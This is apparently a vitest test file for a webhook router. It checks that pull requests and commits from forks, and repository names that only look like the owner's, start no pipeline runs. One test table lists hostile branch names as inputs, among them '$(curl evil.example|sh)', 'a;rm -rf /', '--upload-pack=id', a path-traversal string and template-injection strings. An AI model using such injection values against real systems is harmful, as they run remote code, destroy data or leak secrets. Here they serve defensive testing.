/** 39: a pull request of a fork, and names that look like ours. */
import { describe, expect, test } from "vitest";
import { FairleadError } from "../../src/core/errors.ts";
import { pipelines } from "../../src/pipelines/index.ts";
import { readConfig } from "../../webhook/config.ts";
import { receivers } from "../../webhook/receivers/index.ts";
import { openDoor, type Door } from "./door.ts";
import { commit, hmac, hubHeaders, pushOf, repository, signature, tellRoutes } from "./signed.ts";

const sources = { github: { kind: "github", secrets: "SECRET" } };
const told = { message: "#${{ event.number }} ${{ event.commit }}", to: ["slack:C0RELEASES"] };
/** A route for everything that becomes of pull requests at a source. */
const route = (source: string, name = "github.com/acme/app"): object => ({
  name: `pulls-${source}`,
  when: { source, kind: "pull-request", repository: name, base: "**", action: ["opened", "updated", "merged", "closed"] },
  run: "notify",
  with: told,
});

/** A pull request as GitHub sends it: its head is this branch of this repository. */
const pull = (head: unknown, action = "opened", branch = "topic"): string =>
  JSON.stringify({
    ...{ action, number: 7, repository },
    pull_request: {
      head: { ref: branch, sha: commit, repo: head },
      base: { ref: "main", repo: { id: 1 } },
      merged: action === "closed",
      merge_commit_sha: commit,
    },
  });

const post = (door: Door, body: string) => door.post("github", body, hubHeaders(body, `d-${hmac(body).slice(0, 8)}`, "pull_request"));

describe("a pull request of a fork", () => {
  test.each<[string, unknown, string]>([
    ["of another repository", { id: 2 }, "opened"],
    ["of another repository, which is merged", { id: 2 }, "closed"],
    ["of a repository that is gone", null, "opened"],
    ["of another repository that has the same name", { id: 2, full_name: "acme/app" }, "synchronize"],
  ])("attack 39: a pull request %s is stored as a fork's, and no route takes it", async (_what, head, action) => {
    await using door = await openDoor({ sources, routes: [route("github")] });
    expect(await post(door, pull(head, action))).toMatchObject({ status: 200, body: { ignored: "no route takes it", runs: [] } });
    expect((await door.store.deliveries({ limit: 9 })).flatMap(({ events }) => events)).toMatchObject([
      { kind: "pull-request", fork: true },
    ]);
    expect(await door.store.runs({ limit: 9 })).toEqual([]);
  });

  test.each<[string, unknown]>([
    ["without an id", {}],
    ["whose id is a text", { id: "1" }],
    ["whose id is one and a half", { id: 1.5 }],
    ["that is a list", [1]],
    ["that is left out", undefined],
  ])("attack 39: a pull request whose head is a repository %s is answered 400", async (_what, head) => {
    await using door = await openDoor({ sources, routes: [route("github")] });
    expect((await post(door, pull(head))).status).toBe(400);
    expect(await door.store.deliveries({ limit: 9 })).toEqual([]);
  });

  test("attack 39: a pull request of the repository itself is taken, so that the others are not refused for another reason", async () => {
    await using door = await openDoor({ sources, routes: [route("github")] });
    expect(await post(door, pull({ id: 1 }))).toMatchObject({ status: 202 });
  });

  test("attack 39: a pull request of a fork at gitea, gitlab and both Bitbuckets is taken by no route", async () => {
    const kinds = { gitea: {}, gitlab: {}, "bitbucket-cloud": {}, "bitbucket-server": {} };
    const names: Readonly<Record<string, string>> = {
      "bitbucket-cloud": "bitbucket.org/acme/app",
      "bitbucket-server": "git.example.com/ACME/app",
    };
    const withPaths = Object.fromEntries(
      Object.keys(kinds).map((kind) => [kind, { kind, secrets: "SECRET", path: `cmd:echo key-of-the-path-of-${kind}` }]),
    );
    await using door = await openDoor({ sources: withPaths, routes: Object.keys(kinds).map((kind) => route(kind, names[kind])) });
    const self = [{ href: "https://git.example.com/x" }];
    const ofServer = (id: number) => ({
      displayId: "main",
      latestCommit: commit,
      repository: { id, slug: "app", project: { key: "ACME" }, links: { self } },
    });
    const cloud = (name: string) => ({ branch: { name: "main" }, commit: { hash: commit }, repository: { full_name: name } });
    const bodies: Readonly<Record<string, object>> = {
      gitea: {
        ...{ action: "opened", number: 7, repository },
        pull_request: { head: { ref: "t", sha: commit, repo_id: 2 }, base: { ref: "main", repo_id: 1 } },
      },
      gitlab: {
        project: { web_url: "https://github.com/acme/app", path_with_namespace: "acme/app" },
        object_attributes: {
          ...{ action: "open", iid: 7, source_branch: "t", target_branch: "main", last_commit: { id: commit } },
          ...{ source_project_id: 2, target_project_id: 1 },
        },
      },
      "bitbucket-cloud": {
        repository: { full_name: "acme/app" },
        pullrequest: { id: 7, source: cloud("mallory/app"), destination: cloud("acme/app") },
      },
      "bitbucket-server": { pullRequest: { id: 7, fromRef: ofServer(2), toRef: ofServer(1) } },
    };
    const headers = (kind: string, body: string): Record<string, string> => ({
      ...{
        "X-Gitea-Event": "pull_request",
        "X-Gitea-Signature": hmac(body),
        "X-Gitlab-Event": "Merge Request Hook",
        "X-Gitlab-Token": "canary-secret-of-a-source",
      },
      ...{ "X-Hub-Signature": `sha256=${hmac(body)}`, "X-Event-Key": kind === "bitbucket-cloud" ? "pullrequest:created" : "pr:opened" },
    });
    for (const kind of Object.keys(kinds)) {
      const body = JSON.stringify(bodies[kind]);
      expect([kind, (await door.post(kind, body, headers(kind, body))).body]).toEqual([
        kind,
        expect.objectContaining({ ignored: "no route takes it" }),
      ]);
    }
    const events = (await door.store.deliveries({ limit: 9 })).flatMap(({ events: each }) => each);
    expect(events.map((event) => event.kind === "pull-request" && event.fork)).toEqual([true, true, true, true]);
  });

  test.each([
    ["opened", false, { status: 200, body: { ignored: "no route takes it" } }],
    ["closed", true, { status: 202 }],
  ])(
    "a pull request that a reader opened by a push to refs/for, and that is %s, runs only once it is merged",
    async (action, merged, answer) => {
      const secret = { kind: "gitea", secrets: "SECRET", path: "cmd:echo key-of-the-path-of-gitea" };
      await using door = await openDoor({ sources: { gitea: secret }, routes: [route("gitea", "github.com/acme/app")] });
      const head = { ref: "refs/pull/7/head", sha: commit, repo_id: 1 };
      const pull_request = { head, base: { ref: "main", repo_id: 1 }, merged, merge_commit_sha: commit };
      const body = JSON.stringify({ action, number: 7, repository, pull_request });
      const headers = { "X-Gitea-Event": "pull_request", "X-Gitea-Signature": hmac(body), "X-Gitea-Delivery": "d-1" };
      expect(await door.post("gitea", body, headers)).toMatchObject(answer);
    },
  );

  test("attack 39: a route takes the pull requests of forks by forks: true of its when, and by no other setting", async () => {
    const { when } = route("github") as { when: object };
    const text = (more: object): string =>
      JSON.stringify({ version: 1, sources: { github: { kind: "github", secrets: "env:X" } }, routes: [{ ...route("github"), ...more }] });
    const read = (more: object) => readConfig(text(more), { path: "fairlead.yaml", receivers, pipelines });
    expect(() => read({})).not.toThrow();
    for (const more of [{ forks: true }, { when: { ...when, fork: true } }]) expect(() => read(more)).toThrow(FairleadError);
    await using door = await openDoor({ sources, routes: [{ ...route("github"), when: { ...when, forks: true } }] });
    expect(await post(door, pull({ id: 2 }))).toMatchObject({ status: 202 });
    expect(await door.store.runs({ limit: 9 })).toMatchObject([{ pipeline: "notify", input: { message: `#7 ${commit}` } }]);
  });
});

describe("a commit of a fork that is not marked so", () => {
  const app = { source: "github", repository: "github.com/acme/app" };
  const ours = { ...repository, id: 1 };
  const toldCommit = { message: "${{ event.commit }}", to: ["slack:C0RELEASES"] };
  const routes = [
    { name: "after-ci", when: { ...app, kind: "check", context: "ci", state: "success" }, run: "notify", with: toldCommit },
    { name: "preview", when: { ...app, kind: "deployment", environment: "Preview", state: "success" }, run: "notify", with: toldCommit },
  ];
  const check = (branch: string | null, pulls: readonly object[] = []) => ({
    ...{ action: "completed", repository: ours },
    check_run: {
      ...{ name: "ci", status: "completed", conclusion: "success", head_sha: commit, pull_requests: pulls },
      check_suite: { head_branch: branch, pull_requests: pulls },
    },
  });
  const pullOf = (id: number, sha: string) => ({
    number: 7,
    head: { ref: "topic", sha, repo: { id } },
    base: { ref: "main", repo: { id: 1 } },
  });
  const deployment = (ref: string, run?: object) => ({
    ...{ action: "created", repository: ours, deployment_status: { state: "success" } },
    deployment: { id: 5, ref, sha: commit, environment: "Preview", payload: { branch: "main" } },
    ...(run !== undefined && { workflow_run: run }),
  });
  const ran = (id: number, head_sha: string) => ({ event: "push", head_branch: "main", head_sha, head_repository: { id } });
  const other = "e".repeat(40);
  const send = async (type: string, body: object) => {
    await using door = await openDoor({ sources, routes });
    const text = JSON.stringify(body);
    const { status } = await door.post("github", text, hubHeaders(text, `d-${hmac(text).slice(0, 8)}`, type));
    const events = (await door.store.deliveries({ limit: 9 })).flatMap(({ events: each }) => each);
    return [status, events.map((event) => "fork" in event && event.fork), (await door.store.runs({ limit: 9 })).length];
  };

  test.each<[string, string, object]>([
    ["check run of a fork's branch called main", "check_run", check("main")],
    ["check run of no branch", "check_run", check(null)],
    ["check run beside a pull request of a fork", "check_run", check("topic", [pullOf(2, commit)])],
    ["check run beside a pull request of our branch with another head", "check_run", check("topic", [pullOf(1, other)])],
    ["deployment of a bare SHA", "deployment_status", deployment(commit)],
    ["deployment of the beginning of a SHA, in capitals", "deployment_status", deployment(commit.slice(0, 7).toUpperCase())],
    ["deployment of a SHA that looks like a name", "deployment_status", deployment(`v1-1-g${commit.slice(0, 9)}`)],
    ["deployment of a SHA that Git computes", "deployment_status", deployment(`${commit}^0`)],
    ["deployment of a pull request's ref", "deployment_status", deployment("refs/pull/7/head")],
    ["deployment of another ref", "deployment_status", deployment("refs/remotes/mallory/main")],
    ["deployment of a fork's job", "deployment_status", deployment("main", ran(2, commit))],
    ["deployment by a job of ours that names a SHA of another commit", "deployment_status", deployment(commit, ran(1, other))],
  ])("attack 71 (a fork's commit that nothing marks so): a %s counts as a fork's, and starts nothing", async (_what, type, body) => {
    expect(await send(type, body)).toEqual([200, [true], 0]);
  });

  test.each<[string, string, object]>([
    ["check run of the head of our pull request", "check_run", check("topic", [pullOf(1, commit)])],
    ["deployment of a branch", "deployment_status", deployment("main")],
    ["deployment of a tag", "deployment_status", deployment("refs/tags/v1.0.0")],
    ["deployment of a branch whose name is of hexadecimal digits", "deployment_status", deployment("feed")],
    ["deployment by a job of its own commit", "deployment_status", deployment(commit, ran(1, commit))],
  ])("attack 71: a %s is the repository's own, so that the others are not refused for another reason", async (_what, type, body) => {
    expect(await send(type, body)).toEqual([202, [false], 1]);
  });
});

describe("a branch of a fork", () => {
  const when = { source: "github", kind: "pull-request", repository: "github.com/acme/app", base: "main", action: "opened", forks: true };
  const tell = { message: "${{ event.branch }}", to: ["slack:C0RELEASES"], key: "${{ event.branch }}" };
  const routes = [{ name: "tell", when, run: "notify", with: tell, lane: "x ${{ event.branch }}" }];

  test.each([
    "$(curl evil.example|sh)",
    "`id`",
    "a;rm -rf /",
    "${{ event.delivery }}",
    "${{ secrets.TOKEN }}",
    "--upload-pack=id",
    "refs/heads/main",
    "../../../etc/passwd",
    "a\u202Eb",
    "b".repeat(255),
  ])("attack 39: a branch of a fork called %j is told as it is, has a lane of its own, and is never read again", async (branch) => {
    await using door = await openDoor({ sources, routes });
    expect(await post(door, pull({ id: 2 }, "opened", branch))).toMatchObject({ status: 202 });
    const [run, ...others] = await door.store.runs({ limit: 9 });
    expect(others).toEqual([]);
    expect(run).toMatchObject({ lane: `x ${branch}`, input: { message: branch, key: branch, to: ["slack:C0RELEASES"] } });
  });

  test.each([
    ["with a line break", "a\nRun: 1"],
    ["with an escape", "a\u001b[31m"],
    ["with a null", "a\0b"],
    ["with half a character", "a\ud800"],
    ["of 256 letters", "b".repeat(256)],
  ])("attack 39: a branch of a fork %s, which Git does not take, makes no run", async (_what, branch) => {
    await using door = await openDoor({ sources, routes });
    const { status, body } = await post(door, pull({ id: 2 }, "opened", branch));
    expect([status, body.refused === undefined]).toEqual([202, false]);
    expect(await door.store.runs({ limit: 9 })).toEqual([]);
  });
});

describe("a name that looks like ours", () => {
  test.each([
    ["with a Kelvin sign for a k", "github.com/acme/\u212Aite"],
    ["with a dotless i", "github.com/acme/k\u0131te"],
    ["with a Cyrillic letter", "github.com/acme/kit\u0435"],
    ["with a full-width letter", "github.com/acme/\uff4bite"],
    ["with a zero-width space", "github.com/acme/kite\u200b"],
    ["with a slash behind", "github.com/acme/kite/"],
    ["with a part more", "github.com/acme/kite/.."],
    ["with a user before", "evil@github.com/acme/kite"],
    ["with a letter escaped", "github.com/acme/%6bite"],
    ["with another ending", "github.com/acme/kite.git"],
  ])("attack 68: a repository %s is not the one that a route is bound to", async (_what, name) => {
    const routes = tellRoutes(1).map((each) => ({
      ...each,
      when: { source: "ci", kind: "push", repository: "github.com/acme/kite", branch: "**" },
    }));
    await using door = await openDoor({ sources: { ci: { kind: "generic-hmac", secrets: "SECRET" } }, routes });
    const body = JSON.stringify({ ...pushOf("main"), repository: name });
    expect(await door.post("ci", body, signature(body))).toMatchObject({ status: 200, body: { runs: [] } });
    const ours = JSON.stringify({ ...pushOf("main"), repository: "GitHub.com/Acme/KITE" });
    expect((await door.post("ci", ours, signature(ours))).status).toBe(202);
  });
});
